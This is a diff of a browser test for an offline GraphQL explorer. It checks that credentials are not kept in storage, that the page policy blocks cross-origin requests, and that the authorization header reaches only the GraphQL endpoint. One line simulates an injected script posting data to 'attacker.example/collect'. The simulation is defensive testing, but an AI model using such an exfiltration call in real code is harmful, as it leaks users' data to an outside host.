@@ -126,8 +126,8 @@ describe.skipIf(missing !== undefined)('the bundled explorer, offline, in Chromi
       ...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie])`);
     expect(stored).not.toContain(network.appKey);
     expect(stored).toContain(network.function);
-    // A script on the page (say, a malicious extension's) asks another origin: the page's policy
-    // refuses the connection, and the credentials are added to the gateway's endpoint only.
+    // A script injected into the page sends to another origin: the page's policy refuses the
+    // connection before it leaves the browser (the cut-off network never even sees it).
     const before = browser.blocked.length;
     const outcome = await page.evaluate(() =>
       fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
@@ -136,7 +136,11 @@ describe.skipIf(missing !== undefined)('the bundled explorer, offline, in Chromi
       ),
     );
     expect(outcome).toBe('refused');
-    expect(browser.blocked.slice(before).filter((b) => 'authorization' in b.headers)).toEqual([]);
+    expect(browser.blocked.slice(before)).toEqual([]);
+    // The credentials join requests to the GraphQL endpoint only, not other paths of the gateway.
+    const other = page.waitForRequest((r) => r.url().endsWith('/healthz'));
+    await page.evaluate(() => fetch('/healthz').then((r) => r.status));
+    expect((await other).headers()['authorization']).toBeUndefined();
     // After a reload the key is gone; the function stays for this tab.
     await page.reload();
     await page.locator('#gridmark-key').waitFor();
